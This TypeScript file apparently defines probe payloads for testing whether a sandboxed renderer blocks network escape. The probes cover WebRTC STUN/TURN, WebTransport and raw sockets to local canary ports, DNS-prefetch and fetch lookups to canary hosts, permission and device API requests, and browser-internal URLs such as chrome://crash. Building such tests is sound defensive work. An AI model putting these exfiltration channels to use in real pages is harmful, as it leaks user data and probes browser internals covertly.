import type { Targets } from '../support/canaries.ts';
import type { AttackParts } from './document.ts';

const peer =
  (servers: (targets: Targets) => string) =>
  (targets: Targets): AttackParts => ({
    script: `attempt(() => {
  const Peer = window.RTCPeerConnection ?? window.webkitRTCPeerConnection ?? add('iframe', {}).contentWindow.RTCPeerConnection;
  const peer = new Peer({ iceServers: [${servers(targets)}] });
  peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});`,
  });

/** Connects to a peer at the UDP canary. */
const peerToListener = ({ udpPort }: Targets): AttackParts => ({
  script: `attempt(async () => {
  const peer = new RTCPeerConnection();
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  const sdp = peer.localDescription.sdp.replace(/a=setup:actpass/g, 'a=setup:passive');
  await peer.setRemoteDescription({ type: 'answer', sdp });
  await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ${udpPort} typ host', sdpMid: '0' });
});`,
});

export const PEER_VECTORS: Readonly<Record<string, (targets: Targets) => AttackParts>> = {
  'webrtc-stun': peer(({ udpPort }) => `{ urls: 'stun:127.0.0.1:${udpPort}' }`),
  'webrtc-stun-by-name': peer(({ udpPort }) => `{ urls: 'stun:localhost:${udpPort}' }`),
  'webrtc-turn-udp': peer(
    ({ udpPort }) => `{ urls: 'turn:127.0.0.1:${udpPort}', username: 'a', credential: 'b' }`,
  ),
  'webrtc-turn-tcp': peer(
    ({ tcpPort }) => `{ urls: 'turn:127.0.0.1:${tcpPort}?transport=tcp', username: 'a', credential: 'b' }`,
  ),
  'webrtc-turns': peer(
    ({ tcpPort }) => `{ urls: 'turns:127.0.0.1:${tcpPort}?transport=tcp', username: 'a', credential: 'b' }`,
  ),
  'webrtc-peer': peerToListener,
  'web-transport': ({ udpPort }) => ({
    script: `attempt(() => new WebTransport('https://127.0.0.1:${udpPort}/').ready);`,
  }),
  'web-transport-with-hash': ({ udpPort }) => ({
    script: `attempt(() => new WebTransport('https://127.0.0.1:${udpPort}/', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready);`,
  }),
  'tcp-socket': ({ tcpPort }) => ({
    script: `attempt(() => new TCPSocket('127.0.0.1', ${tcpPort}).opened);`,
  }),
  'udp-socket': ({ udpPort }) => ({
    script: `attempt(() => new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: ${udpPort} }).opened);`,
  }),
};

const NAMES = 40;
const numbered = (write: (host: string) => string): string =>
  Array.from({ length: NAMES }, (_, index) => write(`n${index}.canary.example.com`)).join('');

/** Name lookups, which could carry data in the name. */
export const LOOKUP_VECTORS: Readonly<Record<string, AttackParts>> = {
  'lookup-prefetch': { head: numbered((host) => `<link rel="dns-prefetch" href="//${host}">`) },
  'lookup-preconnect': { head: numbered((host) => `<link rel="preconnect" href="https://${host}">`) },
  'lookup-links': { body: numbered((host) => `<a href="https://${host}/">x</a>`) },
  'lookup-forced-on': {
    head: '<meta http-equiv="x-dns-prefetch-control" content="on">',
    body: numbered((host) => `<a href="https://${host}/">x</a>`),
  },
  'lookup-fetches': { script: numbered((host) => `attempt(() => fetch('https://${host}/'));`) },
  'lookup-peer': {
    script: numbered(
      (host) =>
        `attempt(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)); });`,
    ),
  },
};

/** Devices, permissions and dialogs: none may be granted or block the render. */
export const API_VECTORS: Readonly<Record<string, string>> = {
  geolocation: 'navigator.geolocation.getCurrentPosition(() => leakAccess(), () => {});',
  camera: 'await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); leakAccess();',
  screen: 'await navigator.mediaDevices.getDisplayMedia(); leakAccess();',
  clipboard: 'await navigator.clipboard.readText(); leakAccess();',
  notification: "if (await Notification.requestPermission() === 'granted') leakAccess();",
  usb: 'await navigator.usb.requestDevice({ filters: [] }); leakAccess();',
  serial: 'await navigator.serial.requestPort(); leakAccess();',
  hid: 'if ((await navigator.hid.requestDevice({ filters: [] })).length) leakAccess();',
  bluetooth: 'await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); leakAccess();',
  midi: 'await navigator.requestMIDIAccess({ sysex: true }); leakAccess();',
  'local-fonts': 'if ((await queryLocalFonts()).length) leakAccess();',
  'open-file-picker': 'await showOpenFilePicker(); leakAccess();',
  'directory-picker': 'await showDirectoryPicker(); leakAccess();',
  credentials: 'if (await navigator.credentials.get({ password: true })) leakAccess();',
  'idle-detector': "if (await IdleDetector.requestPermission() === 'granted') leakAccess();",
  'granted-permissions':
    "for (const name of ['geolocation', 'camera', 'microphone', 'notifications', 'clipboard-read', 'midi', 'background-sync', 'local-fonts', 'local-network-access']) { const { state } = await navigator.permissions.query({ name }).catch(() => ({})); if (state === 'granted') leakAccess(); }",
  dialogs: "alert('x'); confirm('x'); prompt('x'); print(); add('iframe', {}).contentWindow.alert('x');",
};

/** Internal pages of the browser and schemes of other programs. */
export const INTERNAL_URLS: Readonly<Record<string, string>> = {
  'chrome-version': 'chrome://version',
  'chrome-network-export': 'chrome://net-export',
  'chrome-crash': 'chrome://crash',
  'chrome-kill': 'chrome://kill',
  'chrome-gpu-crash': 'chrome://gpucrash',
  'chrome-untrusted': 'chrome-untrusted://print',
  devtools: 'devtools://devtools/bundled/inspector.html',
  'devtools-port': 'http://127.0.0.1:9222/json/version',
  'about-memory': 'about:memory',
  mail: 'mailto:a@example.com',
  intent: 'intent://x#Intent;scheme=http;end',
  'external-program': 'ssh://127.0.0.1/',
};
